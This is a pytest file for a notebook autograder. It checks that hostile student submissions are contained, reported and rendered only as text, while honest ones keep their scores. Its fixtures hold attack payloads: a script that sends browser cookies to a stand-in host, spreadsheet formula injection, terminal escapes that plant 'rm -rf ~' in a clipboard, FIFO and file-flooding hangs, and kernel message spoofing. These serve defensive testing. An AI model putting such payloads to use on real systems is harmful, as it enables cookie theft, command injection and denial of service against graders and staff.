"""Hostile submissions graded through the command line beside honest ones (issue 19): each is contained and
named in its own report, the honest ones keep their exact scores, nothing outside the work copies changes.

The shared field cases (../shared/cases/field/: zip-backslash-member, zip-bad-member-name) are graded with their
right verdicts from ../shared/cases/README.md; TMPDIR is a scratch folder four levels deep, so that a member
escaping its unpack folder would stay inside it and be found.
"""
import csv
import json
import os
import re
import shutil
import subprocess
import tempfile
import time
from pathlib import Path

import pytest

from batch_cli import grade, module_score, reference_plus
from conftest import ROOT, SHARED_CASES
from html_page import page_parts

FIELD = SHARED_CASES / "field"


def snapshot(folder):
    return {str(p.relative_to(folder)): p.stat().st_mtime_ns for p in folder.rglob("*") if not p.is_symlink()}


@pytest.fixture(scope="module")
def archives():
    """The two shared archive cases graded in one --fast batch, TMPDIR four levels deep.

    The folder is a short one of /tmp's, not pytest's (under `make test`'s parallel workers pytest's folders are
    10 characters longer): the grader's kernel sockets live in TMPDIR, and a socket's path holds 107 bytes at most."""
    base = Path(tempfile.mkdtemp(prefix="hw3-archives-"))
    try:
        yield _graded_archives(base)
    finally:
        shutil.rmtree(base, ignore_errors=True)


def _graded_archives(base):
    scratch = base / "1" / "2" / "3" / "4"
    scratch.mkdir(parents=True)
    cases = [FIELD / "zip-backslash-member" / "submission.zip", FIELD / "zip-bad-member-name"]
    for case in cases:
        assert case.exists(), f"shared case missing: {case}"
    before = snapshot(SHARED_CASES)
    start = time.perf_counter()
    reports, run = grade(cases, base, "--fast", "--jobs", "2", env=dict(os.environ, TMPDIR=str(scratch)))
    print(f"\n{len(reports)} submissions graded in {time.perf_counter() - start:.0f} s")
    assert snapshot(SHARED_CASES) == before
    return reports, base, run


def test_zip_backslash_member_is_skipped_and_never_written_outside(archives):
    reports, base, _ = archives
    result = reports["submission"]
    assert module_score(result) == (171, 171)
    assert any("escaped-canary.txt" in n and "outside the archive" in n for n in result["notes"]), result["notes"]
    assert not list(base.rglob("escaped-canary.txt"))
    assert not list(ROOT.rglob("escaped-canary.txt"))


def test_zip_bad_member_name_is_one_problem_line_and_the_batch_goes_on(archives):
    reports, _, _ = archives
    broken, honest = reports["1001"], reports["1002"]
    assert module_score(broken) == (171, 171) and module_score(honest) == (171, 171)
    lines = [e for e in broken["errors"] if "could not be unpacked" in e]
    assert len(lines) == 1 and "notes-" in lines[0] and "scratch.txt" in lines[0], broken["errors"]
    assert not [e for e in honest["errors"] if "unpack" in e or "zip" in e], honest["errors"]


HANG = ("import signal, time\n"
        "signal.signal(signal.SIGINT, signal.SIG_IGN)   # the grader's interrupt is ignored\n"
        "while True:\n"
        "    time.sleep(0.1)\n")


def test_an_interrupt_ignoring_hang_with_long_cells_is_bounded_by_the_submission_limit(tmp_path):
    """Cells that ignore interrupts, after long cells that every restart replays: each hang used to cost a
    restart plus every long cell again (hours for one submission, with no error line). The submission's
    wall-clock limit bounds it all; the report says grading stopped, and how many restarts and replays."""
    import nbformat
    from grader.execution.session import grade_submission
    from grader.options import Options
    nb = nbformat.v4.new_notebook()
    # Unbounded, each hang costs its 3 s, the interrupt's grace (5 s), a restart and 6 s of replays: about 8 x 16 s.
    nb.cells = ([nbformat.v4.new_code_cell(f"import time\ntime.sleep(2)\nstep{i} = {i}") for i in range(3)]
                + [nbformat.v4.new_code_cell(HANG) for _ in range(8)])
    folder = tmp_path / "hanger"
    folder.mkdir()
    nbformat.write(nb, str(folder / "HW3_Modules.ipynb"))
    limit = 30
    start = time.perf_counter()
    report = grade_submission(folder, Options(timeout=3, fast=True, submission_limit=limit))
    seconds = time.perf_counter() - start
    assert seconds < limit + 30, seconds
    assert any("grading stopped: the submission used up its time (30 s" in e for e in report["errors"]), report["errors"]
    assert any("restarted" in n and "re-run after restarts" in n for n in report["notes"]), report["notes"]
    assert report["score"] == 0


# ----------------------------------------------------------------------------------------------------------------
# One batch of every hostile kind of issue 19's sections 3-5 beside honest submissions, in full mode.

BACKTICK = "``a` [click](http://evil.example/x) `b`` ![img](http://evil.example/p.png) <b>bold</b>"
FIFO_MAIN = ("import os\n"
             "os.makedirs('build', exist_ok=True)\n"
             "os.mkfifo('build/metrics.json')   # the grader used to open it and wait forever\n")
FILLER = "import os\nos.makedirs('junk', exist_ok=True)\nfor i in range(30000):\n    open(f'junk/{i}', 'wb').close()\n"
UNSHARE = "import subprocess\nsubprocess.run(['unshare', '-r', 'id'], check=True)\n"
# A forward() that sends, during the grader's own probe, output messages the kernel's protocol does not allow: a
# stream whose text is a number, content that is not JSON, a display of 1 MB metadata (the code holds the kernel's
# session and sockets). Before: TypeError in the grader, every Linear check failed to judge, 'not graded'.
MALFORMED_OUTPUT = (
    "_dp = get_ipython().display_pub\n"
    "_forward = Linear.updateOutput\n"
    "def _noisy(self, input):\n"
    "    _dp.session.send(_dp.pub_socket, 'stream', {'name': 'stdout', 'text': 5}, parent=_dp.parent_header)\n"
    "    _dp.session.send(_dp.pub_socket, 'error', 'not JSON', parent=_dp.parent_header)\n"
    "    _dp.session.send(_dp.pub_socket, 'display_data', {'data': {'text/plain': ''}, 'metadata': {'m': 'm' * 2 ** 20}},\n"
    "                     parent=_dp.parent_header)\n"
    "    return _forward(self, input)\n"
    "Linear.updateOutput = _noisy\n")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# An exception message of escape sequences: OSC 52 (a terminal that runs it puts a command in the TA's clipboard),
# a screen clear, a window title, NUL and BEL
ESCAPES = "\x1b]52;c;cm0gLXJmIH4K\x07 \x1b[2J\x1b]0;owned\x07 NUL\x00 BEL\x07 \x9b31m"
WEB_PAGE = ("<!DOCTYPE html>\n<html><head><script>fetch('http://evil.example/'+document.cookie)</script></head>"
            "<body><img src=x onerror=alert(1)><a href='javascript:alert(2)'>=HYPERLINK(\"evil.example\")</a>"
            "</body></html>\n")   # a saved web page under the notebook's name, written to attack the review page


def _main_notebook(source):
    import nbformat
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(source), nbformat.v4.new_code_cell("print('the rest')")]
    return nbformat.writes(nb)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """(reports by key, the output folder, the grader's runs): the hostile batch graded once, then --resume."""
    from corpus import MODULES, reference
    import nbformat
    base = tmp_path_factory.mktemp("hostile-batch")
    canvas, moodle = base / "canvas", base / "moodle" / "@SUM(1+1) Evil_7001_assignsubmission_file_"
    canvas.mkdir()
    moodle.mkdir(parents=True)
    honest = nbformat.writes(reference(MODULES))
    files = {
        '=HYPERLINK("evil.example","click")_5001_6001_HW3_Modules.ipynb': honest,
        "backtick_5003_6003_HW3_Modules.ipynb": reference_plus(f"# `` [x](http://evil.example) ``\nraise ValueError({BACKTICK!r})"),
        "fifo_5004_6004_HW3_main.ipynb": _main_notebook(FIFO_MAIN),
        "honest_5005_6005_HW3_Modules.ipynb": honest,
        "filler_5006_6006_HW3_Modules.ipynb": reference_plus(FILLER),
        "unshare_5007_6007_HW3_Modules.ipynb": reference_plus(UNSHARE),
        "webpage_5008_6008_HW3_Modules.ipynb": WEB_PAGE,
        "malformed_5009_6009_HW3_Modules.ipynb": reference_plus(MALFORMED_OUTPUT),
    }
    for name, text in files.items():
        (canvas / name).write_text(text, encoding="utf-8")
    (moodle / "HW3_Modules.ipynb").write_text(honest, encoding="utf-8")
    escape = base / "moodle" / "Esc Ape_7002_assignsubmission_file_"
    escape.mkdir()
    (escape / "HW3_Modules.ipynb").write_text(reference_plus(f"raise ValueError({ESCAPES!r})"), encoding="utf-8")
    surrogate = FIELD / "surrogate-in-output"
    assert surrogate.is_dir(), f"shared case missing: {surrogate}"
    shared_before = snapshot(SHARED_CASES)
    sandboxes_before = set(Path(tempfile.gettempdir()).glob("hw3-sandbox-*"))
    scratch = base / "tmp"
    scratch.mkdir()
    env = dict(os.environ, TMPDIR=str(scratch))
    out = base / "out"
    out.mkdir()
    reports, first = grade([canvas, base / "moodle", surrogate], out, "--jobs", "2", "--timeout", "30", env=env)
    again, resumed = grade([canvas, base / "moodle", surrogate], out, "--jobs", "2", "--timeout", "30", "--resume",
                           env=env)
    assert snapshot(SHARED_CASES) == shared_before
    return {"reports": reports, "again": again, "out": out, "runs": (first, resumed), "scratch": scratch,
            "sandboxes": set(Path(tempfile.gettempdir()).glob("hw3-sandbox-*")) - sandboxes_before}


def test_honest_submissions_keep_their_exact_scores(hostile):
    reports = hostile["reports"]
    for key in ("5001", "5005", "7001", "7002", "3002"):
        assert module_score(reports[key]) == (171, 171), (key, reports[key]["errors"])
    assert module_score(reports["5007"]) == (171, 171), reports["5007"]["errors"]      # its unshare cell fails alone
    assert module_score(reports["5003"]) == (171, 171), reports["5003"]["errors"]      # its raising cell fails alone


def test_malformed_kernel_messages_during_the_checks_are_dropped_and_the_submission_graded(hostile):
    report = hostile["reports"]["5009"]
    assert report["graded"] and module_score(report) == (171, 171), report["errors"]
    assert any("drives the kernel" in e for e in report["errors"]), report["errors"]   # flagged for a TA


def test_every_hostile_one_is_named_in_its_own_report(hostile):
    reports = hostile["reports"]
    assert any("unshare" in e for e in reports["5007"]["errors"]), reports["5007"]["errors"]
    # Named once in the errors whether the launcher's measure stopped the filler's cell or (the cell ended first)
    # the grader's checks after it; a check's message never says a module raised it.
    assert sum("filled its folder" in e for e in reports["5006"]["errors"]) == 1, reports["5006"]["errors"]
    assert not [c for c in reports["5006"]["checks"] if "raised stopped" in c["message"]]
    main = [c for c in reports["5004"]["checks"] if c["target"] == "main notebook"]
    assert any("FIFO" in c["message"] for c in main), main
    assert any("HW3_main.ipynb cell" in e and "FileNotFoundError" in e for e in reports["3001"]["errors"]), \
        reports["3001"]["errors"]


def test_every_gradebook_journal_and_feedback_file_is_written_and_opens_safely(hostile):
    out = hostile["out"]
    for name in ("grades.json", "grades.jsonl"):
        text = (out / name).read_text(encoding="utf-8")
        assert text and "\udc80" not in text
    for line in (out / "grades.jsonl").read_text(encoding="utf-8").splitlines():
        json.loads(line)
    for name in ("grades.csv", "grades_canvas.csv", "grades_moodle.csv"):
        with open(out / name, newline="", encoding="utf-8") as f:
            rows = list(csv.reader(f))
        assert len(rows) >= 2, name
        formulas = [cell for row in rows for cell in row if cell.startswith(FORMULA_START)
                    and not re.fullmatch(r"-?\d+(\.\d+)?", cell)]
        assert formulas == [], (name, formulas)
    cells = "".join(open(out / n, encoding="utf-8").read() for n in ("grades.csv", "grades_canvas.csv", "grades_moodle.csv"))
    assert "'=HYPERLINK(" in cells and "'@SUM(1+1)" in cells
    feedback = sorted((out / "grades_feedback").iterdir())
    assert len(feedback) == 2 * len(hostile["reports"])
    for page in (p for p in feedback if p.suffix == ".html"):
        html = page.read_text(encoding="utf-8")
        assert not re.search(r"<(a|img|b|script)\b", html), page.name
    backtick = (out / "grades_feedback" / "5003.html").read_text(encoding="utf-8")
    assert "evil.example" in backtick     # shown as text, never a link


def test_escape_sequences_in_a_message_are_shown_never_written_raw(hostile):
    """Control characters of a student's exception message reach no file the grader writes (the feedback's .md a TA
    may `cat`, its HTML, the Moodle worksheet's comments, the JSON, the journal): each is shown as \\xNN."""
    out = hostile["out"]
    control = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
    for path in [p for p in out.rglob("*") if p.is_file() and p.suffix in (".md", ".html", ".csv", ".json", ".jsonl")]:
        assert not control.search(path.read_text(encoding="utf-8")), path
    assert any("\\x1b]52;c;" in e and "NUL\\x00" in e for e in hostile["reports"]["7002"]["errors"])
    assert "\\x1b]52;c;" in (out / "grades_feedback" / "7002.md").read_text(encoding="utf-8")
    with open(out / "grades_moodle.csv", newline="", encoding="utf-8") as f:
        assert any("\\x1b]52;c;" in cell for row in csv.reader(f) for cell in row)


def test_a_hostile_web_page_under_a_notebooks_name_awaits_a_ta_and_is_shown_only_as_text(hostile):
    """Never a 0, never run: its 171 points await a TA outside the score and maximum, its Canvas grade is left empty,
    and the review page shows its markup as text (no element, attribute or script of the file's)."""
    report, out = hostile["reports"]["5008"], hostile["out"]
    [item] = [c for c in report["checks"] if isinstance(c.get("review"), dict)]
    assert item["max_points"] == report["awaiting_review"] == 171 and not module_score(report)[1]
    assert "a web page saved under a notebook's name" in item["review"]["reason"]
    with open(out / "grades_canvas.csv", newline="", encoding="utf-8") as f:
        assert {row[1]: row[5] for row in csv.reader(f)}["5008"] == ""
    page = page_parts((out / "grades_review" / "unreadable-HW3_Modules.html").read_text(encoding="utf-8"))
    assert not [(name, value) for name, value in page.attrs if name.startswith("on") or "evil.example" in (value or "")
                or "javascript:" in (value or "")]
    assert not [script for script in page.scripts if "evil.example" in script]
    assert "<script>fetch('http://evil.example/'+document.cookie)</script>" in page.text   # shown as text


def test_resume_reads_the_journal_back_and_grades_nothing_again(hostile):
    again, reports = hostile["again"], hostile["reports"]
    assert {k: r["score"] for k, r in again.items()} == {k: r["score"] for k, r in reports.items()}
    assert "already graded" in hostile["runs"][1].stdout.decode(errors="replace")


def test_nothing_is_left_behind(hostile):
    from conftest import processes_with
    # The batch's sandbox launchers name their connection files in its TMPDIR (the scratch folder); another test's
    # kernels, running beside this file under `make test`'s parallel workers, name theirs elsewhere.
    launchers = processes_with(str(ROOT / "grader" / "execution" / "sandbox.py"))
    assert [p for p in launchers if p in processes_with(str(hostile["scratch"]))] == []
    def ours(folder):   # the machine is shared: a socket folder of this batch names its client's, in our TMPDIR
        try:
            return str(hostile["scratch"]) in (folder / "kernel.json").read_text()
        except OSError:
            return False
    assert [p for p in hostile["sandboxes"] if ours(p)] == []
    assert list(hostile["scratch"].iterdir()) == []
